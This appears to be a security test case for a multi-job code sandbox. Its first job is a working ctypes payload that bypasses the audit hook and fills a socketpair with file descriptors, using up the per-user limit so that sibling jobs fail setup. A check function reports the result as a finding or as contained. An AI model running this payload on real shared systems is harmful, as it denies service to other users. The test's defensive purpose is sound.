# Cross-job DoS: SCM_RIGHTS fds "in flight" are counted per host user against the sender's RLIMIT_NOFILE; job 1 parks
# 257 fds in a socketpair it never reads (raw libc, past the audit hook), jobs 3-8 then fail their hello (3 fds).
# Observed c5619ab: root -> jobs 3..8 sandbox_error ETOOMANYREFS (rc 125); nobody -> all ok (not investigated).
import json
ARGS = ["-j", "4"]
HOG = r'''
import ctypes, time, struct, os
libc = ctypes.CDLL(None, use_errno=True)
pair = (ctypes.c_int * 2)()
assert libc.socketpair(1, 1, 0, pair) == 0, ctypes.get_errno()   # AF_UNIX, SOCK_STREAM; raw libc, past the audit hook
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure): _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(iovec)),
    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
data = ctypes.create_string_buffer(b"x"); iov = iovec(ctypes.cast(data, ctypes.c_void_p), 1)
cmsg = ctypes.create_string_buffer(struct.pack("QiiI", 20, 1, 1, pair[1]) + b"\0" * 4)  # len=CMSG_LEN(4), SOL_SOCKET, SCM_RIGHTS
n = 0
while True:
    m = msghdr(None, 0, ctypes.pointer(iov), 1, ctypes.cast(cmsg, ctypes.c_void_p), 24, 0)
    if libc.sendmsg(pair[0], ctypes.byref(m), 0) < 0:
        print("parked", n, os.strerror(ctypes.get_errno())); break
    n += 1
time.sleep(4)
'''
JOBS = [{"id": 1, "code": HOG}] + [{"id": i, "code": "import time; time.sleep(0.5 + 0.%d); print('ok')" % i} for i in range(2, 5)] + \
       [{"id": i, "code": "print('late job')"} for i in range(5, 9)]
def check(results, who):
    out = {k: (r["status"], (r.get("message") or "")[:110]) for k, r in sorted(results.items(), key=lambda x: str(x[0]))}
    bad = [k for k, (s, _) in out.items() if s == "sandbox_error"]
    return (f"FINDING: siblings failed setup {bad}: " if bad else "CONTAINED: ") + json.dumps(out)
